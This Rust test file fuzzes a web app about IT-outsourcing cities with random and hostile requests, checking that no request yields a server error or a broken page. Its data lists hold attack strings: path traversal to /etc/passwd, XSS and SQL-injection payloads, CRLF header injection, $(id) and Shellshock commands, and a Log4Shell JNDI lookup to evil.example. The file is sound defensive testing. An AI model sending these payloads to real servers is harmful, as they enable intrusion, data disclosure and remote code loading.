//! Random and malicious paths, queries and headers never get a 5xx or a broken answer.

use std::hash::{Hash, Hasher};

use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestCaseError;

use super::wire::{KeepAlive, check_answer, machine_route, pct, send};
use super::{Raw, runner, runtime};
use crate::common::TestServer;

/// Raw fragments that are valid on the wire and known to upset servers.
const HOSTILE_FRAGMENTS: &str = "\
    %00 .. . ..%2f..%2fetc%2fpasswd %2e%2e%2f%2e%2e%2f ..%5c..%5cwindows %2F % %zz %4 \
    %E2%80%AE %EF%BB%BF %C0%AF %ED%A0%80 %F4%90%80%80 %FF%FE %F0%9F%92%A9 \
    %3Cscript%3Ealert(1)%3C%2Fscript%3E %22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(2)%3E \
    '%20OR%201=1-- %0D%0ASet-Cookie:%20x=1 javascript:alert(1) dalian.json dalian.csv .json \
    %2Ejson x.csv ~ $(id) * ; @ + =";

const KNOWN_VALUES: &str = "\
    dalian bangalore metro-manila silicon-valley london berlin bpo ito fintech log linear \
    population it_revenue_usd tholons_rank China Germany dalian-software-park \
    intheblack-dalian 1 2";

const NUMBERS: &str = "\
    0 -1 -0 +3 1.5 1e9 1e309 NaN inf 0x10 9223372036854775807 9223372036854775808 \
    -9223372036854775809 99999999999999999999999999999999999999 1000000000 1000000001";

fn words(list: &str) -> Vec<String> {
    list.split_whitespace().map(String::from).collect()
}

/// A value for a path segment or a query parameter, as it goes on the wire.
fn wire_value() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => proptest::sample::select(words(KNOWN_VALUES)),
        2 => proptest::sample::select(words(NUMBERS)).prop_map(|n| pct(n.as_bytes())),
        3 => proptest::collection::vec(any::<u8>(), 0..48).prop_map(|b| pct(&b)),
        2 => any::<String>().prop_map(|s| pct(s.as_bytes())),
        3 => proptest::sample::select(words(HOSTILE_FRAGMENTS)),
        1 => (1usize..12_000, proptest::sample::select(vec!['a', '9', '-', '.', '_', '~']))
            .prop_map(|(n, c)| c.to_string().repeat(n)),
        1 => (1usize..3_000).prop_map(|n| "%FF".repeat(n)),
    ]
}

fn wire_key() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => proptest::sample::select(vec![
            "city", "sector", "country", "page", "per_page", "metric", "scale", "park",
        ])
            .prop_map(String::from),
        2 => proptest::sample::select(vec![
            "sectr", "colour", "__proto__", "constructor", "city[]", "city[0]", "%63ity", "CITY", "city%00",
            "a%zz", "", "%", "page%20", "%20page", "utm_source",
        ])
        .prop_map(String::from),
        1 => wire_value(),
    ]
}

fn query_string() -> impl Strategy<Value = Option<String>> {
    let pair = (wire_key(), proptest::option::weighted(0.9, wire_value())).prop_map(|(k, v)| match v {
        Some(v) => format!("{k}={v}"),
        None => k,
    });
    prop_oneof![
        1 => Just(None),
        6 => proptest::collection::vec(pair, 0..8).prop_map(|pairs| Some(pairs.join("&"))),
        1 => (1usize..300, wire_value()).prop_map(|(n, v)| Some(vec![format!("city={v}"); n].join("&"))),
        1 => proptest::sample::select(vec!["&&&", "=", "==&=", "&city", "city=&city=", "page=&page", "?", "%26%3D"])
            .prop_map(|q| Some(q.to_string())),
    ]
}

/// A request target on one of the app's routes (or anywhere), with a hostile query.
fn request_target() -> impl Strategy<Value = String> {
    let fixed = proptest::sample::select(vec![
        "/",
        "/cities",
        "/cities.json",
        "/cities.csv",
        "/companies",
        "/compare",
        "/compare.json",
        "/compare.csv",
        "/compare/export",
        "/compare/chart.svg",
        "/embed/compare",
        "/embed/scorecard",
        "/sources",
        "/changes",
        "/api",
        "/openapi.json",
    ])
    .prop_map(String::from);
    let with_segment = (
        proptest::sample::select(vec!["/cities/{}", "/cities/{}.json", "/cities/{}.csv", "/parks/{}", "/sources/{}"]),
        wire_value(),
    )
        .prop_map(|(route, seg)| route.replace("{}", &seg));
    let route_word =
        proptest::sample::select(words("cities parks compare sources companies changes admin cities.json compare.csv"));
    let anywhere =
        proptest::collection::vec(prop_oneof![3 => wire_value(), 1 => route_word, 1 => Just(String::new())], 0..5)
            .prop_map(|segs| format!("/{}", segs.join("/")));
    (prop_oneof![4 => fixed, 4 => with_segment, 2 => anywhere], query_string()).prop_map(|(path, query)| {
        let mut target = match query {
            Some(q) => format!("{path}?{q}"),
            None => path,
        };
        // Stay under the 64 KiB that HTTP libraries accept in a request line.
        while target.len() > 60_000 {
            target.truncate(target.len() / 2);
        }
        target
    })
}

#[test]
fn random_and_malicious_queries_and_paths_never_break_the_server() {
    let rt = runtime();
    let server = rt.block_on(TestServer::start());
    let addr = server.base.trim_start_matches("http://").to_string();
    let result = runner(128).run(&request_target(), |target| {
        let answer = rt.block_on(send(&addr, &target, &[], true)).map_err(TestCaseError::fail)?;
        check_answer(&target, &answer)
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}

/// Tens of thousands of random requests (20,000; `HOSTILE_CASES=N` sends N), over a few
/// keep-alive connections at once so that they are cheap: the server answers every one as it
/// means to (`check_answer`), on connections that stay usable from one request to the next.
#[test]
fn tens_of_thousands_of_random_requests_over_keep_alive_connections() {
    const CONNECTIONS: usize = 4;
    let rt = runtime();
    let server = rt.block_on(TestServer::start());
    let addr = server.base.trim_start_matches("http://").to_string();
    let total = runner(20_000).config().cases as usize;
    let (strategy, mut generator) = (request_target(), runner(1));
    let targets: Vec<String> =
        (0..total).map(|_| strategy.new_tree(&mut generator).map(|tree| tree.current()).unwrap()).collect();
    let started = std::time::Instant::now();
    let failures: Vec<String> = rt.block_on(async {
        let shares = targets.chunks(total.div_ceil(CONNECTIONS).max(1));
        let tasks: Vec<_> = shares.map(|share| tokio::spawn(send_and_check(addr.clone(), share.to_vec()))).collect();
        let mut failures = Vec::new();
        for task in tasks {
            failures.extend(task.await.unwrap());
        }
        failures
    });
    println!("{total} random requests over {CONNECTIONS} keep-alive connections in {:?}", started.elapsed());
    let first: Vec<&String> = failures.iter().take(5).collect();
    assert!(failures.is_empty(), "{} of {total} answers were wrong; the first: {first:#?}", failures.len());
}

/// Sends every target on one keep-alive connection and checks each answer; what went wrong.
async fn send_and_check(addr: String, targets: Vec<String>) -> Vec<String> {
    let mut connection = KeepAlive::new(&addr);
    let mut failures = Vec::new();
    // Answers already checked whole (by route kind, status, type and body): many random requests
    // get the same page or error back, and checking a page is the slow part.
    let mut checked = std::collections::HashSet::new();
    for target in &targets {
        let answer = match connection.get(target).await {
            Ok(answer) => answer,
            Err(e) => {
                failures.push(e);
                continue;
            }
        };
        let path = target.split('?').next().unwrap_or(target);
        let mut hasher = std::collections::hash_map::DefaultHasher::new();
        (machine_route(path), answer.status, answer.header("content-type"), &answer.body).hash(&mut hasher);
        if checked.insert(hasher.finish())
            && let Err(e) = check_answer(target, &answer)
        {
            failures.push(e.to_string());
        }
    }
    // The server keeps the connection open through errors too (a 400, a 404, a 414).
    if connection.connections > 1 + targets.len() / 100 {
        failures.push(format!(
            "{} connections for {} requests: answers closed them",
            connection.connections,
            targets.len()
        ));
    }
    failures
}

/// A header value as it can go on the wire: any byte but control characters (tab allowed).
fn header_value(max: usize) -> impl Strategy<Value = Raw> {
    prop_oneof![
        3 => proptest::collection::vec(prop_oneof![Just(b'\t'), 0x20u8..0x7f, 0x80u8..=0xff], 0..max),
        1 => (1..max.max(2)).prop_map(|n| b"a".repeat(n)),
        1 => proptest::sample::select(vec![
            &b"\"><script>alert(1)</script>"[..],
            b"en-US,en;q=0.9,*;q=-1,zz;q=NaN",
            b"W/\"\", *, \"\\\"",
            b"=; ==; a=b=c; \xff\xfe=\x80",
            b"() { :; }; echo vulnerable",
            b"${jndi:ldap://evil.example/a}",
            b"../../../../etc/passwd",
        ])
        .prop_map(<[u8]>::to_vec),
    ]
    .prop_map(Raw)
}

#[test]
fn random_and_malicious_headers_never_break_the_server() {
    let rt = runtime();
    let server = rt.block_on(TestServer::start());
    let addr = server.base.trim_start_matches("http://").to_string();
    let targets = vec![
        "/",
        "/cities?sector=bpo",
        "/cities/dalian",
        "/cities/dalian.json",
        "/cities.csv",
        "/companies?page=2",
        "/compare?city=dalian&city=berlin",
        "/compare.json?city=dalian&city=berlin",
        "/compare/export?city=dalian&city=berlin",
        "/compare/chart.svg?city=dalian&city=berlin",
        "/embed/compare?city=dalian&city=berlin",
        "/parks/dalian-software-park",
        "/sources/intheblack-dalian",
    ];
    let host = prop_oneof![
        2 => Just(None),
        1 => Just(Some(Raw(Vec::new()))),
        3 => header_value(300).prop_map(Some),
        1 => proptest::sample::select(vec![
            &b"evil.example"[..], b"evil.example:99999", b"[::1", b"a b c", b"127.0.0.1:0@evil.example",
            b"localhost%00.evil", b"\xff\xfe",
        ])
        .prop_map(|h| Some(Raw(h.to_vec()))),
    ];
    let extra_name = "[A-Za-z0-9!#$%&'*+.^_`|~-]{1,24}".prop_filter("framing headers change the request", |n| {
        !matches!(
            n.to_ascii_lowercase().as_str(),
            "host" | "content-length" | "transfer-encoding" | "connection" | "expect" | "upgrade" | "te" | "trailer"
        )
    });
    let strategy = (
        proptest::sample::select(targets),
        host,
        proptest::option::of(header_value(16_000)),
        proptest::option::of(header_value(4_000)),
        proptest::option::of(header_value(2_000)),
        proptest::collection::vec((extra_name, header_value(500)), 0..6),
        any::<bool>(),
    );
    let result = runner(48).run(&strategy, |(target, host, language, cookie, etag, extra, twice)| {
        let mut headers: Vec<(String, Vec<u8>)> = Vec::new();
        let default_host = host.is_none();
        if let Some(Raw(h)) = host {
            headers.push(("Host".into(), h.clone()));
            if twice {
                headers.push(("Host".into(), h));
            }
        }
        if let Some(Raw(v)) = language {
            headers.push(("Accept-Language".into(), v));
        }
        if let Some(Raw(v)) = cookie {
            headers.push(("Cookie".into(), v));
        }
        if let Some(Raw(v)) = etag {
            headers.push(("If-None-Match".into(), v.clone()));
            headers.push(("If-Modified-Since".into(), v));
        }
        headers.extend(extra.into_iter().map(|(name, Raw(value))| (name, value)));
        let answer = rt.block_on(send(&addr, target, &headers, default_host)).map_err(TestCaseError::fail)?;
        prop_assert!(answer.status < 500, "GET {target}: {}: {}", answer.status, answer.text());
        // Headers are not part of what a page shows: the same answer as without them.
        prop_assert_eq!(answer.status, 200, "GET {}: {}", target, answer.text());
        check_answer(target, &answer)
    });
    if let Err(e) = result {
        panic!("{e}");
    }
}
